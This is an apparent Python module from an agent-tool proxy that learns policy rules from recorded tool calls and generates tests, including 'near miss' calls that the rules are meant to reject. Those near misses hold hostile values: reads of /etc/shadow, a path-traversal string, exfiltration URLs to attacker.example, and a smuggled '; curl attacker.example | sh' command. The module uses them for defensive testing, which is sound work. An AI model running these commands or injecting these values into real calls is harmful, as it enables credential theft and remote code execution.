"""One learned rule: who called what, the conditions, the evidence, and tests from calls and near misses. Pure."""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any, Final

from proxy.policy.rule_tests import run_tests
from proxy.policy.rules import PolicyFile
from proxy.policy_learning.argument_rules import generalise
from proxy.policy_learning.evidence import Evidence, told
from proxy.policy_learning.names import as_glob, as_globs
from proxy.policy_learning.value_shape import Shape

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping, Sequence

    from proxy.core.model import Call
    from proxy.policy.rules import Rule

SAMPLES: Final = 3
MAX_SAMPLE: Final = 2000  # characters of a test's arguments
MAX_NEAR: Final = 6
_STRANGE_KEY: Final = "interlock_never_seen"
_OUTSIDE: Final[tuple[Any, ...]] = (
    "/etc/shadow",
    "https://attacker.example/x",
    "\n; curl attacker.example | sh",
    10**15,
    -(10**15),
    [],
    {},
)


@dataclass(slots=True)
class ToolCalls:
    """The recorded calls of one tool by one agent, summed up: their shape, and the evidence for it."""

    agent: str
    server: str
    method: str
    tool: str | None
    outcome: str  # "allow", or "two_phase" where people or a second phase were asked
    shape: Shape = field(default_factory=Shape)
    seen: Evidence = field(default_factory=Evidence)
    samples: list[dict[str, Any]] = field(default_factory=list)
    levels: dict[str, int] = field(default_factory=dict)

    def add(self, call: Call, audit_id: str, time: float) -> None:
        arguments = call.arguments or {}
        self.shape.add(arguments)
        self.seen.add(audit_id, time)
        few = len(self.samples) < SAMPLES and arguments not in self.samples
        if few and len(json.dumps(arguments)) <= MAX_SAMPLE:
            self.samples.append(copy.deepcopy(arguments))


@dataclass(frozen=True, slots=True)
class LearnedRule:
    """A rule as a policy file has it, and what it rests on: the calls of one tool, by agents that call it alike."""

    values: Mapping[str, Any]
    calls: tuple[ToolCalls, ...]
    said: Mapping[str, str]

    @property
    def id(self) -> str:
        return str(self.values["id"])

    def evidence(self) -> dict[str, Any]:
        """Return what the rule rests on, as JSON."""
        return {"rule": self.id, **told(one.seen for one in self.calls), "made_of": dict(self.said)}


def make_rule(calls: Sequence[ToolCalls], rule_id: str) -> LearnedRule:
    """Return the rule for the calls of agents whose conditions are the same. Its tests pass."""
    first = calls[0]
    made = generalise(first.shape, first.levels)
    values: dict[str, Any] = {"id": rule_id, "action": first.outcome, "agents": as_globs(*(one.agent for one in calls))}
    if first.server:
        values["servers"] = as_globs(first.server)
    if first.tool is not None:
        values["tools"] = as_globs(first.tool)
    if first.method != "tools/call":
        values["methods"] = [as_glob(first.method)]
    if first.outcome == "two_phase":
        values["approval"] = "human"
    if made.conditions:
        values["when"] = {"all": made.conditions}
    values["tests"] = list(_passing(values, _tests(first)))
    return LearnedRule(values, tuple(calls), made.said)


def conditions_of(calls: ToolCalls) -> str:
    """Return the conditions as text: calls of different agents are one rule where these are the same."""
    return json.dumps(generalise(calls.shape, calls.levels).conditions, sort_keys=True)


def compile_values(values: Mapping[str, Any]) -> Rule:
    """Return a rule from its values. Raises pydantic's ValidationError."""
    return PolicyFile.model_validate({"version": 1, "rules": [values]}).call_rules[0]


def _tests(calls: ToolCalls) -> Iterator[dict[str, Any]]:
    """Yield a test for each sample, and for calls that come close to one and are not it."""
    for sample in calls.samples:
        yield {"call": _test_call(calls, sample), "expect": calls.outcome}
    near = 0
    for sample in calls.samples[:1]:
        for miss in near_misses(sample):
            if near >= MAX_NEAR:
                break
            near += 1
            yield {"call": _test_call(calls, miss), "expect": "no_match"}
    other = {**_test_call(calls, {}), "tool": f"{calls.tool}_other"} if calls.tool is not None else None
    yield {"call": other or {**_test_call(calls, {}), "method": "some/other"}, "expect": "no_match"}


def _test_call(calls: ToolCalls, arguments: dict[str, Any]) -> dict[str, Any]:
    call = {"agent": calls.agent, "server": calls.server, "tool": calls.tool, "arguments": arguments}
    call |= {"method": calls.method} if calls.method != "tools/call" else {}
    return {name: value for name, value in call.items() if value not in (None, "")}


def near_misses(sample: dict[str, Any]) -> Iterator[dict[str, Any]]:
    """Yield calls that differ from one that was seen in a single place."""
    yield {**sample, _STRANGE_KEY: "x"}
    for key, value in sample.items():
        if isinstance(value, str) and value.startswith("/"):
            yield {**sample, key: f"{value}/../../../../../../../../etc/shadow"}
        if isinstance(value, str) and "://" in value:
            yield {**sample, key: "https://attacker.example/?u=" + value}
        strange = next(one for one in _OUTSIDE if type(one) is type(value)) if type(value) in (str, int) else []
        yield {**sample, key: strange}


def _passing(values: dict[str, Any], tests: Iterator[dict[str, Any]]) -> Iterator[dict[str, Any]]:
    """Return the tests that hold: a near miss that free text lets through tests nothing."""
    for test in tests:
        rule = compile_values({**values, "tests": [test]})
        if all(result.passed for result in run_tests([rule])):
            yield test
